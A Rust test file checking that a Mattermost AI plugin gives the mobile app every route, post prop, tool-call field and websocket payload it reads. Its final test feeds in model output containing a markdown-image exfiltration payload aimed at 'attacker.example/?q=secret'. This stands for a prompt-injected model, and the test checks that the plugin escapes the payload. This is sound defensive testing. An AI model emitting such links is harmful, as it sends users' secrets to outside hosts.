//! What the mobile app uses of the plugin (issue 16, item 7), walked from
//! tests/fixtures/mobile_contract.json, which was written from the app's sources
//! (`mattermost-mobile`, `app/products/agents/`): every route it calls is served (or has a
//! stated reason not to be), and an agent conversation gives it every field, post prop,
//! websocket payload and status it reads.

use crate::common::{Under, licensed};
use std::collections::BTreeSet;

use mattermost_simulator::fake_provider::{FakeProvider, Script, one_agent_config};
use mattermost_simulator::{Simulator, Transport};
use serde_json::{Value, json};

use crate::common::http::{approve_pending_tools, get_json, post_json};
use crate::mcp_tools::{model, tool_calls, wait_for};

const BIN: &str = env!("CARGO_BIN_EXE_mattermost-ai");
const EVENT: &str = "custom_mattermost-ai_postupdate";

in_process!(
    a_conversation_gives_the_mobile_app_what_it_reads,
    a_planted_image_reaches_no_client_as_an_image
);

fn contract() -> Value {
    serde_json::from_str(include_str!("../fixtures/mobile_contract.json")).expect("the contract is JSON")
}

/// Routes the app calls that this plugin has no reason to serve, and why.
const NOT_APPLICABLE: &[(&str, &str)] = &[
    (
        "/post/{}/loop_in_agent",
        "acts on mention-reminder posts (custom_agent_mention_reminder), which this plugin never writes",
    ),
    (
        "/conversations/{}",
        "called only for posts carrying conversation_id, which this plugin never sets: the app renders our posts from their props",
    ),
];

/// `/post/{post_id}/stop` and `/post/{postid}/stop` alike.
fn shape(path: &str) -> String {
    let mut out = String::new();
    let mut inside = false;
    for c in path.chars() {
        match c {
            '{' => {
                inside = true;
                out.push_str("{}");
            }
            '}' => inside = false,
            _ if inside => {}
            c => out.push(c),
        }
    }
    out
}

/// `(METHOD, shape)` of every route literal in the plugin's router.
fn served() -> BTreeSet<(String, String)> {
    let src = include_str!("../../src/http/mod.rs");
    let mut out = BTreeSet::new();
    for part in src.split(".route(").skip(1) {
        let Some(path) = part.split('"').nth(1) else {
            continue;
        };
        let handler = part.split(')').take(3).collect::<Vec<_>>().join(")");
        for m in ["get", "post", "put", "delete", "any"] {
            if handler.contains(&format!("{m}(")) {
                out.insert((m.to_uppercase(), shape(path)));
            }
        }
    }
    out
}

#[test]
fn every_route_the_mobile_app_calls_is_served() {
    let served = served();
    let mut missing = Vec::new();
    for r in contract()["routes"].as_array().unwrap() {
        let (method, path) = (r["method"].as_str().unwrap(), shape(r["path"].as_str().unwrap()));
        if NOT_APPLICABLE.iter().any(|(p, _)| *p == path) {
            assert!(
                !served.contains(&(method.to_owned(), path.clone())),
                "{path} is served: remove it from NOT_APPLICABLE"
            );
            continue;
        }
        if !served.contains(&(method.to_owned(), path.clone()))
            && !served.contains(&("ANY".into(), path.clone()))
        {
            missing.push(format!("{method} {path}"));
        }
    }
    assert!(
        missing.is_empty(),
        "routes the mobile app calls that are not served: {missing:?}"
    );
}

async fn a_conversation_gives_the_mobile_app_what_it_reads(t: Transport) {
    let c = contract();
    let fake = model().await;
    let sim = Simulator::builder(BIN)
        .under(t)
        .license(licensed())
        .plugin_config(one_agent_config(&fake.url, json!({}), json!({}), json!({})))
        .start()
        .await
        .unwrap();
    let (alice, token) = sim.add_user("alice", "system_user");
    let bot = sim.bot_user_id("ai").unwrap();
    let dm = sim.direct_channel(&alice.id, &bot);

    // /ai_bots: the response fields the app reads.
    let bots = get_json(&sim, &token, "/ai_bots").await;
    for field in c["routes"][0]["response_fields"].as_array().unwrap() {
        assert!(
            bots.get(field.as_str().unwrap()).is_some(),
            "/ai_bots lacks {field}: {bots}"
        );
    }

    // A question the agent answers with a tool call, approved, then a text answer.
    let question = sim
        .post_as(&alice.id, &dm.id, "call LookupMattermostUser", "")
        .await
        .unwrap();
    let asked = approve_pending_tools(&sim, &token, &["call_LookupMattermostUser"]).await;
    wait_for(&sim, "the answer after the tool", |p| {
        p.message.starts_with("Done:")
    })
    .await;
    sim.settle().await;

    // Post type and props.
    let types: Vec<&str> = c["post_types"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert!(types.contains(&asked.post_type.as_str()), "{}", asked.post_type);
    let asked = sim.data().posts[&asked.id].clone();
    assert_eq!(asked.prop_str("llm_requester_user_id"), Some(alice.id.as_str()));
    assert!(
        asked.props["pending_tool_call"].is_string(),
        "pending_tool_call is a JSON string, as the app parses it"
    );
    let calls = tool_calls(&asked);
    assert!(!calls.is_empty());
    let statuses: Vec<i64> = c["tool_call_status"]
        .as_object()
        .unwrap()
        .values()
        .filter_map(Value::as_i64)
        .collect();
    for call in &calls {
        for field in c["tool_call_fields"].as_array().unwrap() {
            let field = field.as_str().unwrap();
            assert!(call.get(field).is_some(), "a tool call lacks {field}: {call}");
        }
        assert!(
            statuses.contains(&call["status"].as_i64().unwrap_or(-1)),
            "{call}"
        );
    }

    // Websocket payloads: every update names the post; controls are ones the app knows; text
    // updates carry `next`.
    let event = c["websocket_events"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["event"] == EVENT)
        .cloned()
        .unwrap();
    let known_fields: Vec<&str> = event["fields"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    let controls: Vec<&str> = event["control_values"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    let events: Vec<_> = sim
        .data()
        .ws_events
        .iter()
        .filter(|e| e.event == EVENT)
        .cloned()
        .collect();
    assert!(!events.is_empty());
    let mut texts = 0;
    for e in &events {
        assert!(
            e.payload.get("post_id").and_then(Value::as_str).is_some(),
            "{:?}",
            e.payload
        );
        for key in e.payload.keys() {
            assert!(
                known_fields.contains(&key.as_str()),
                "a field the app does not know: {key}"
            );
        }
        match e.payload.get("control").and_then(Value::as_str) {
            Some(control) => assert!(
                controls.contains(&control),
                "a control the app does not know: {control}"
            ),
            None => {
                assert!(
                    e.payload.get("next").and_then(Value::as_str).is_some(),
                    "{:?}",
                    e.payload
                );
                texts += 1;
            }
        }
    }
    assert!(texts > 0, "no text update was sent");

    // The conversation list: the 1.x item (the app reads `id` as the root post id as long as
    // `root_post_id` is absent).
    let threads = get_json(&sim, &token, "/ai_threads").await;
    let item = threads
        .as_array()
        .and_then(|a| a.iter().find(|i| i["id"] == json!(question.id)))
        .cloned()
        .unwrap_or_else(|| panic!("the conversation is not listed: {threads}"));
    for field in c["ai_threads_item_fields"].as_array().unwrap() {
        let field = field.as_str().unwrap();
        if field == "root_post_id" {
            assert!(
                item.get(field).is_none(),
                "root_post_id would switch the app to 2.0 ids"
            );
        } else {
            assert!(
                item.get(field).is_some(),
                "/ai_threads item lacks {field}: {item}"
            );
        }
    }

    // Regenerate and Stop answer as the app expects (status only).
    let answer = wait_for(&sim, "the answer", |p| p.message.starts_with("Done:")).await;
    let (status, _) = post_json(
        &sim,
        &token,
        &format!("/post/{}/regenerate", answer.id),
        json!({}),
    )
    .await;
    assert_eq!(status, 200);
    let (status, _) = post_json(&sim, &token, &format!("/post/{}/stop", answer.id), json!({})).await;
    assert_eq!(status, 200);
}

/// The mobile app renders agent posts with its own Markdown and loads images, whatever
/// `unsafe_links` says: a model tricked into writing an image (split across chunks here) must
/// not reach any client as one, in the saved post or in the streamed text.
async fn a_planted_image_reaches_no_client_as_an_image(t: Transport) {
    let fake = FakeProvider::start(vec![Script::chat_completion(
        &[
            "Here !",
            "[x](https://attacker.example/?q=secret) and `![code](u)`",
        ],
        0,
        None,
    )])
    .await
    .unwrap();
    fake.route(|seen| {
        let system = seen.body["messages"][0]["content"].as_str().unwrap_or("");
        system
            .starts_with("Write a title")
            .then(|| Script::chat_completion(&["A title"], 0, None))
    });
    let sim = Simulator::builder(BIN)
        .under(t)
        .license(licensed())
        .plugin_config(one_agent_config(&fake.url, json!({}), json!({}), json!({})))
        .start()
        .await
        .unwrap();
    let (alice, _) = sim.add_user("alice", "system_user");
    let bot = sim.bot_user_id("ai").unwrap();
    let dm = sim.direct_channel(&alice.id, &bot);
    sim.post_as(&alice.id, &dm.id, "Summarize the page", "")
        .await
        .unwrap();
    let answer = wait_for(&sim, "the answer", |p| {
        p.user_id == bot && p.message.contains("attacker")
    })
    .await;
    sim.settle().await;
    assert_eq!(
        answer.message,
        "Here !\\[x](https://attacker.example/?q=secret) and `![code](u)`"
    );
    for e in sim.data().ws_events.iter().filter(|e| e.event == EVENT) {
        if let Some(next) = e.payload.get("next").and_then(Value::as_str) {
            assert!(!next.contains("![x]"), "streamed as an image: {next}");
        }
    }
}
